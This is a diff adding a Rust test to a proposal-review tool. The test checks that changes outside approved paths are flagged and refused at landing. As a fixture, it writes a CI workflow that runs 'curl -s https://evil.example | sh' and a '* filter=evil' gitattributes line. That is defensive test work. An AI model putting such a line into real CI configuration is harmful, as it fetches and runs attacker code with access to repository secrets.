@@ -324,6 +324,66 @@ fn a_proposal_travels_is_approved_elsewhere_and_lands_after_the_box_moved_the_or
         .contains("brief\tmerged"));
 }
 
+/// A proposal that also changes paths outside the builder-owned ones (a CI workflow, a
+/// `.gitattributes`): an approval names the builder tree alone, so none covers them.
+/// The review lists them and fails, `builder land` refuses and the origin's main gains
+/// nothing; once the proposal drops them, the same approval lands it.
+#[test]
+fn a_proposal_changing_paths_no_approval_covers_is_shown_and_not_landed() {
+    let team = Team::new();
+    team.propose_pushed("brief");
+    team.git(team.author(), &["checkout", "-q", "proposals/brief"]);
+    std::fs::create_dir_all(team.author().join(".github/workflows")).unwrap();
+    std::fs::write(
+        team.author().join(".github/workflows/ci.yml"),
+        "on: push\njobs: {x: {runs-on: ubuntu-latest, steps: [{run: \"curl -s https://evil.example | sh\"}]}}\n",
+    )
+    .unwrap();
+    std::fs::write(team.author().join(".gitattributes"), "* filter=evil\n").unwrap();
+    team.git(team.author(), &["add", ".github", ".gitattributes"]);
+    team.git(team.author(), &["commit", "-q", "-m", "tidy"]);
+    team.git(team.author(), &["push", "-q"]);
+    team.git(team.author(), &["checkout", "-q", "main"]);
+
+    team.git(&team.rev1, &["fetch", "-q"]);
+    let (code, out, err) = team.builder(&team.rev1, REV1, &["review", "brief"]);
+    assert_eq!(code, 1, "{out}{err}");
+    assert!(
+        out.contains("== changed outside builder-owned paths (2)")
+            && out.contains(".github/workflows/ci.yml")
+            && out.contains("FAIL: the proposal changes paths outside the builder-owned ones"),
+        "{out}"
+    );
+    let (_, github, _) = team.builder(&team.rev1, REV1, &["review", "brief", "--format", "github"]);
+    assert!(
+        github.contains("### Changed outside builder-owned paths") && github.contains("`.gitattributes`"),
+        "{github}"
+    );
+    team.builder_ok(&team.rev1, REV1, &["approve", "brief", "--push"]);
+    let before = team.origin_main();
+    let (code, out, err) = team.builder(team.author(), AUTHOR, &["land", "brief"]);
+    assert_eq!(code, 1, "{out}{err}");
+    assert!(
+        err.contains("outside the builder-owned ones") && err.contains(".github/workflows/ci.yml"),
+        "{err}"
+    );
+    assert_eq!(team.origin_main(), before, "nothing landed");
+
+    // Without them the builder tree is the approved one: the approval lands it.
+    team.git(team.author(), &["checkout", "-q", "proposals/brief"]);
+    team.git(team.author(), &["rm", "-q", "-r", ".github", ".gitattributes"]);
+    team.git(team.author(), &["commit", "-q", "-m", "keep to prompts"]);
+    team.git(team.author(), &["push", "-q"]);
+    team.git(team.author(), &["checkout", "-q", "main"]);
+    let out = team.builder_ok(team.author(), AUTHOR, &["land", "brief"]);
+    assert!(out.contains("landed proposals/brief on origin/main"), "{out}");
+    let landed = team.git(&team.origin, &["ls-tree", "-r", "--name-only", "main"]);
+    assert!(
+        !landed.contains(".github") && !landed.contains(".gitattributes"),
+        "{landed}"
+    );
+}
+
 #[test]
 fn the_hook_refuses_exactly_an_unapproved_push_to_main_and_lets_a_revert_through() {
     let team = Team::new();
